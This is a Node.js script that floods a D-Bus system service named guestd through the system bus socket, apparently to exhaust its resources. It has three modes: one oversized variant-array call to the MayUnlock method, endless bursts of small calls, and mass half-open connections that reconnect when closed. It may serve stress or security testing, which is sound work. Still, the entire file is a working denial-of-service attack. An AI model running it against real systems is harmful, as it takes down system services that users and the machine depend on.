// Floods guestd through the system bus, with a method once open to all users. Prints "begun" once under way, and runs
// until it is ended.
//
//   flood-bus.mjs body BYTES     one call with a body of variants
//   flood-bus.mjs calls COUNT    small calls, all at once, repeatedly
//   flood-bus.mjs half-open N    connections that never authenticate
import { connect } from "node:net";
import { setInterval } from "node:timers";

const SOCKET = "/run/dbus/system_bus_socket";
const [mode, amount] = [process.argv[2], Number(process.argv[3])];

/** @param greets completes the greeting */
async function open(greets) {
  const socket = connect(SOCKET);
  socket.on("error", () => undefined);
  await new Promise((resolve) => socket.once("connect", resolve).once("error", resolve));
  if (!greets) return socket;
  socket.write(`\0AUTH EXTERNAL ${Buffer.from(String(process.getuid())).toString("hex")}\r\n`);
  await new Promise((resolve) => socket.once("data", resolve));
  socket.write("BEGIN\r\n");
  socket.write(
    call("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", "", Buffer.alloc(0)),
  );
  return socket;
}

let serial = 0;

/** In wire format. */
function call(destination, path, of, member, signature, body) {
  const fields = [];
  const put = (code, type, text) => {
    while (Buffer.concat(fields).length % 8 !== 0) fields.push(Buffer.alloc(1));
    const length = type === "g" ? Buffer.from([text.length]) : Buffer.alloc(4);
    if (type !== "g") length.writeUInt32LE(text.length);
    fields.push(Buffer.from([code, 1, type.charCodeAt(0), 0]), length, Buffer.from(`${text}\0`));
  };
  put(1, "o", path);
  put(2, "s", of);
  put(3, "s", member);
  put(6, "s", destination);
  if (signature !== "") put(8, "g", signature);
  const array = Buffer.concat(fields);
  const fixed = Buffer.from([0x6c, 1, 0, 1, ...Array(12).fill(0)]);
  fixed.writeUInt32LE(body.length, 4);
  fixed.writeUInt32LE(++serial, 8);
  fixed.writeUInt32LE(array.length, 12);
  return Buffer.concat([fixed, array, Buffer.alloc((8 - (array.length % 8)) % 8), body]);
}

const callGuestd = (member, signature = "", body = Buffer.alloc(0)) =>
  call("org.guestd1", "/org/guestd1", "org.guestd1.Manager", member, signature, body);

/** av, with each byte in its own variant. */
function variants(bytes) {
  const body = Buffer.alloc(bytes - (bytes % 4));
  body.writeUInt32LE(body.length - 4);
  for (let at = 4; at < body.length; at += 4) body.writeUInt32LE(0x00007901, at);
  return body;
}

const write = (socket, bytes) => new Promise((resolve) => (socket.writable ? socket.write(bytes, resolve) : resolve()));

async function send(messages) {
  const socket = await open(true);
  socket.resume();
  for (const message of messages) {
    await write(socket, message);
    if (socket.destroyed) break;
  }
  return socket;
}

const SMALL = 1000;
switch (mode) {
  case "body":
    await send([callGuestd("MayUnlock", "av", variants(amount))]);
    console.log("begun");
    setInterval(() => undefined, 1000);
    break;
  case "calls":
    for (let isFirst = true; ; isFirst = false) {
      const some = Buffer.concat(Array.from({ length: SMALL }, () => callGuestd("MayUnlock")));
      const socket = await send(Array(Math.ceil(amount / SMALL)).fill(some));
      if (isFirst) console.log("begun");
      socket.destroy();
    }
  case "half-open": {
    const sockets = await Promise.all(Array.from({ length: amount }, () => open(false)));
    for (const socket of sockets) socket.resume().on("close", () => void open(false).then((next) => next.resume()));
    console.log("begun");
    setInterval(() => undefined, 1000);
    break;
  }
}
